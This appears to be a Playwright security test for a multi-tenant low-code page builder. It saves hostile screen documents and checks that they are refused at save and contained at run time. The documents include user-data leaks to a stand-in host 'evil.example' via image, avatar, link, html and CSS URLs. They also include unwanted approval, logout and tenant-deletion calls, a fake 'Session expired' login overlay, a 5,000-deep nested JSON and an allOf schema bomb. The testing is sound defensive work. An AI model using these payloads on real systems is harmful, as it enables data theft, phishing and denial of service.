/**
 * A hostile tenant configurator, in a real browser against the real server.
 * Documents are built to act as whoever opens them: every write and
 * product-only route called on load, workflow and session routes from a
 * tenant's buttons, a write from a chain run when a step shows, viewer data
 * sent out through image, avatar, link, `html` and style URLs, a full-screen
 * overlay made of the UI library's class names, a document nested 5,000 deep
 * and a form schema built to cost the check seconds.
 * - At save (the studio's draft call, as the configurator): each is refused
 *   with a 4xx; none with a 500.
 * - At run time: the same documents published without the check (the test-only
 *   `/eps/dev/screens/unchecked`, as a document that got in some other way)
 *   over `home/index` of the buyer's and of the supplier's tenant, opened by
 *   that buyer and that supplier: no request reaches a targeted route, none
 *   leaves for another host, no answer is a 5xx, the overlay covers nothing.
 * - While hostile saves run in parallel, another tenant's cheap read is timed:
 *   the longest stall is printed and bounded.
 * The figures are printed for the issue note.
 */
import { readFileSync } from 'node:fs';
import { expect, test, type APIRequestContext, type Browser, type Page } from './fixtures';
import type { ScreenCall } from '@core/calls/screenCalls';
import { DEMO, signInThroughApi } from './helpers/session';

test.describe.configure({ timeout: 300_000 });
const FIRST_LOAD = { timeout: 90_000 };
const EVIL = 'https://evil.example';
// Read as data: Playwright's loader takes no JSON module without an import attribute.
const SCREEN_CALLS = JSON.parse(readFileSync('src/core/calls/screenCallList.json', 'utf8')) as readonly ScreenCall[];

/** A route path with its parameters filled, so a call reaches the route. */
const filled = (path: string): string => path.replace(/:\w+/g, '1');

/** Every route a tenant's load may not call: writes and product-only ones, plus state changes no screen may call. */
const WRITE_TARGETS: ReadonlyArray<{ method: string; url: string }> = [
  ...SCREEN_CALLS.filter((call) => call.kind !== 'read').map((call) => ({ method: call.method, url: filled(call.path) })),
  { method: 'get', url: '/eps/auth/cas/tenant/switch' },
  { method: 'post', url: '/eps/auth/cas/logout' },
  { method: 'put', url: '/eps/lowcode/screens/draft' },
  { method: 'post', url: '/eps/lowcode/menus' },
];
const targetKey = (method: string, url: string): string => `${method.toUpperCase()} ${new URL(url, 'http://x').pathname.replace(/\/+$/, '')}`;
const TARGET_KEYS = new Set(WRITE_TARGETS.map((t) => targetKey(t.method, t.url)));

const text = (en: string): { 'zh-cn': string; en: string } => ({ 'zh-cn': en, en });

/** The hostile documents, each as a configurator would save it. */
function hostileDocuments(): Array<{ name: string; document: unknown }> {
  const page = (body: unknown[], extra: Record<string, unknown> = {}) => ({ schemaVersion: 1, type: 'page', ...extra, body });
  return [
    { name: 'approve on load (initApi)', document: page([], { initApi: { url: '/eps/eps-api/signBpm/agree', params: { requestid: '1' }, silent: true } }) },
    ...WRITE_TARGETS.map((t) => ({ name: `${t.method} ${t.url} on load`, document: page([{ type: 'service', api: { method: t.method, url: t.url, silent: true }, body: [] }]) })),
    {
      name: 'workflow, tenant and session routes from buttons',
      document: page([
        { type: 'button', label: text('approve'), action: { action: 'ajax', api: { url: '/eps/eps-api/signBpm/agree' } } },
        { type: 'button', label: text('leave'), action: { action: 'ajax', api: { url: '/eps/usercenter/uc/user/deleteTenant' } } },
        { type: 'button', label: text('switch'), action: { action: 'ajax', api: { url: '/eps/auth/cas/tenant/switch' } } },
      ]),
    },
    {
      name: 'a write when a step shows',
      document: page([{ type: 'steps', source: '${items}', onShow: { action: 'ajax', api: { method: 'post', url: '/eps/eps-api/msg/readMsg' } }, item: [] }]),
    },
    { name: 'image leak', document: page([{ type: 'image', src: `${EVIL}/i.gif?a=\${user.account}&p=\${user.phone}` }]) },
    { name: 'avatar leak', document: page([{ type: 'avatar', src: `\${'${EVIL}/a?' + user.email}` }]) },
    { name: 'link leak', document: page([{ type: 'button', label: text('go'), action: { action: 'link', url: `${EVIL}/l?\${user.phone}` } }]) },
    { name: 'html leak', document: page([{ type: 'html', content: `<img src="${EVIL}/h?\${user.account}">` }]) },
    { name: 'style leak', document: page([{ type: 'text', text: 'x', style: { backgroundImage: `url(${EVIL}/s?\${user.account})` } }]) },
    { name: 'a path chosen by data', document: page([], { initApi: { url: '${route.query.next}' } }) },
    { name: 'nested 5,000 deep', document: nestedJson(5_000) },
    { name: 'allOf bomb', document: page([{ type: 'form', schema: allOfBomb() }]) },
  ];
}

/** A page whose body nests `depth` cards, as JSON text (JSON.stringify itself overflows on such a value). */
function nestedJson(depth: number): string {
  const open = '{"type":"card","body":['.repeat(depth);
  const close = ']}'.repeat(depth);
  return `{"schemaVersion":1,"type":"page","body":[${open}{"type":"text","text":"deep"}${close}]}`;
}

/** A ~600 KB form schema whose nested allOf branches multiply what a validator compiles (2^13 leaves). */
function allOfBomb(): unknown {
  let schema: Record<string, unknown> = { type: 'string', minLength: 1 };
  for (let i = 0; i < 13; i += 1) schema = { allOf: [schema, schema, { type: 'string' }] };
  return { type: 'object', properties: { f: schema } };
}

/** A draft save with the document as JSON text (given, or made here): Playwright's own serialiser recurses. */
const saveDraft = (request: APIRequestContext, id: string, document: unknown) =>
  request.put(`/eps/lowcode/screens/draft?id=${encodeURIComponent(id)}`, {
    data: typeof document === 'string' ? document : JSON.stringify(document),
    headers: { 'content-type': 'application/json' },
  });

/** The override every viewer opens: all the run-time attacks at once, over the home page. */
function hostileHome(): unknown {
  return {
    schemaVersion: 1,
    type: 'page',
    // No page initApi: its refusal would show the page's load error instead of the body's attacks
    // (the component tests cover it); the sign-engine approval on load is one of the services below.
    data: { items: [{ id: 1 }] },
    body: [
      { type: 'text', testId: 'hostile-ready', text: 'hostile home' },
      ...WRITE_TARGETS.map((t) => ({ type: 'service', api: { method: t.method, url: t.url, silent: true }, body: [] })),
      { type: 'steps', source: '${items}', title: '${item.id}', onShow: [{ action: 'ajax', api: { method: 'post', url: '/eps/eps-api/msg/readMsg', params: { id: 1 } } }, { action: 'logout' }], item: [{ type: 'text', text: 'step' }] },
      { type: 'button', testId: 'hostile-approve', label: text('approve'), action: { action: 'ajax', api: { url: '/eps/eps-api/signBpm/agree', params: { requestid: '1' } } } },
      { type: 'button', testId: 'hostile-leave', label: text('leave'), action: { action: 'ajax', api: { url: '/eps/usercenter/uc/user/deleteTenant' } } },
      { type: 'image', src: `${EVIL}/i.gif?a=\${user.account}`, alt: 'x', width: 4, height: 4 },
      { type: 'avatar', src: `\${'${EVIL}/a?' + user.account}` },
      { type: 'html', content: `<img src="${EVIL}/h?\${user.account}"><p style="background:url(${EVIL}/b)">x</p>` },
      { type: 'text', text: 'styled', style: { backgroundImage: `url(${EVIL}/s?\${user.account})` } },
      {
        type: 'html',
        content:
          '<div class="ant-modal-wrap ant-modal-mask" id="overlay" style="position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">' +
          `Session expired <a href="${EVIL}/login">sign in again</a></div>`,
      },
    ],
  };
}

interface Observed {
  reachedTargets: string[];
  foreign: string[];
  serverErrors: string[];
  cspBlocked: string[];
}

/**
 * Records what the page sends: requests to the targeted routes, requests that left for another host (they reach
 * the network layer, where they are stopped; one the CSP blocks in the page never gets there), 5xx answers and
 * CSP refusals.
 */
async function observe(page: Page, origin: string): Promise<Observed> {
  const seen: Observed = { reachedTargets: [], foreign: [], serverErrors: [], cspBlocked: [] };
  await page.route(
    (url) => url.origin !== origin && (url.protocol === 'http:' || url.protocol === 'https:'),
    (route) => {
      seen.foreign.push(route.request().url());
      return route.abort();
    },
  );
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.origin === origin && TARGET_KEYS.has(targetKey(request.method(), url.pathname))) seen.reachedTargets.push(`${request.method()} ${url.pathname}`);
  });
  page.on('response', (response) => {
    if (response.status() >= 500) seen.serverErrors.push(`${response.status()} ${response.url()}`);
  });
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy/.test(message.text())) seen.cspBlocked.push(message.text().slice(0, 160));
  });
  return seen;
}

async function dev(request: APIRequestContext, method: 'put' | 'delete', document?: unknown): Promise<void> {
  const answer = await request[method]('/eps/dev/screens/unchecked?id=home/index', document === undefined ? {} : { data: document });
  expect((await answer.json()).code).toBe('200');
}

/** The viewer opens the hostile home of its own tenant, clicks its buttons, and what got out is returned. */
async function openAs(browser: Browser, baseURL: string, who: 'buyer' | 'supplier'): Promise<Observed & { refusals: number; overlayCovers: boolean }> {
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const seen = await observe(page, new URL(baseURL).origin);
  await signInThroughApi(page, who);
  await dev(page.request, 'put', hostileHome());
  try {
    await page.goto('/pages/main/home');
    await expect(page.getByTestId('hostile-ready')).toBeVisible(FIRST_LOAD);
    // The refusals are told where they happen (messages naming the refused calls).
    await expect(page.locator('.ant-notification-notice').first()).toBeVisible();
    await page.getByTestId('hostile-approve').click({ force: true });
    await page.getByTestId('hostile-leave').click({ force: true });
    // Late loads (images, a second data source round) get their chance to leak.
    await page.waitForTimeout(2_000);
    const refusals = await page.locator('.ant-notification-notice').count();
    // The overlay's positioning and the UI library's class names are stripped: the portal's top bar is on top.
    const overlayCovers = await page.evaluate(() => {
      const overlay = document.getElementById('overlay') ?? document.querySelector('.ant-modal-wrap.ant-modal-mask');
      const top = document.elementFromPoint(window.innerWidth / 2, 20);
      return overlay !== null && top !== null && overlay.contains(top);
    });
    await page.screenshot({ path: `test-results/hostile-home-${who}.png` });
    // The session is still the viewer's (no logout, no tenant switch happened).
    const info = await (await page.request.post('/eps/auth/cas/session-info', { data: {} })).json();
    expect(info.data.account).toBe(DEMO[who].account);
    return { ...seen, refusals, overlayCovers };
  } finally {
    await dev(page.request, 'delete');
    await context.close();
  }
}

test('hostile documents are refused at save, with 4xx and no 500', async ({ page }) => {
  await signInThroughApi(page, 'configurator');
  const documents = hostileDocuments();
  const statuses: Record<string, number> = {};
  for (const { name, document } of documents) {
    const answer = await saveDraft(page.request, 't/e2e-hostile', document);
    statuses[name] = answer.status();
  }
  const refused = Object.values(statuses).filter((s) => s >= 400 && s < 500).length;
  console.info(`hostile screens: ${documents.length} documents tried, ${refused} refused at save, 5xx: ${Object.values(statuses).filter((s) => s >= 500).length}`);
  expect(Object.entries(statuses).filter(([, status]) => status < 400 || status >= 500)).toEqual([]);
});

test('hostile saves do not stall another tenant', async ({ page, browser, baseURL }) => {
  await signInThroughApi(page, 'configurator');
  const other = await browser.newContext({ baseURL: baseURL as string });
  const supplier = await other.newPage();
  await signInThroughApi(supplier, 'supplier');
  const bomb = { schemaVersion: 1, type: 'page', body: [{ type: 'form', schema: allOfBomb() }] };
  const deep = nestedJson(5_000);
  let saving = true;
  const saves = Promise.all(
    Array.from({ length: 6 }, (_, i) => saveDraft(page.request, `t/e2e-bomb-${i}`, i % 2 ? deep : bomb).then((r) => r.status())),
  ).finally(() => {
    saving = false;
  });
  let longest = 0;
  let reads = 0;
  while (saving) {
    const started = Date.now();
    const answer = await supplier.request.get('/eps/config/dict/list');
    expect(answer.status()).toBe(200);
    longest = Math.max(longest, Date.now() - started);
    reads += 1;
  }
  const statuses = await saves;
  console.info(`hostile screens: 6 hostile saves in parallel (statuses ${statuses.join(', ')}); another tenant's ${reads} reads meanwhile, longest ${longest} ms`);
  expect(statuses.every((s) => s >= 400 && s < 500)).toBe(true);
  expect(longest).toBeLessThan(2_000);
  await other.close();
});

for (const who of ['buyer', 'supplier'] as const) {
  test(`a hostile home published without the check is held at run time for the ${who}`, async ({ browser, baseURL }) => {
    const seen = await openAs(browser, baseURL as string, who);
    console.info(
      `hostile screens (${who}): ${WRITE_TARGETS.length + 3} calls attempted, reached a targeted route: ${seen.reachedTargets.length}, ` +
        `requests that left for other hosts: ${seen.foreign.length}, 5xx: ${seen.serverErrors.length}, refusal messages shown: ${seen.refusals}, loads to other hosts blocked by the CSP: ${seen.cspBlocked.length}`,
    );
    expect(seen.reachedTargets).toEqual([]);
    expect(seen.foreign).toEqual([]);
    expect(seen.serverErrors).toEqual([]);
    expect(seen.overlayCovers).toBe(false);
    expect(seen.refusals).toBeGreaterThan(0);
  });
}
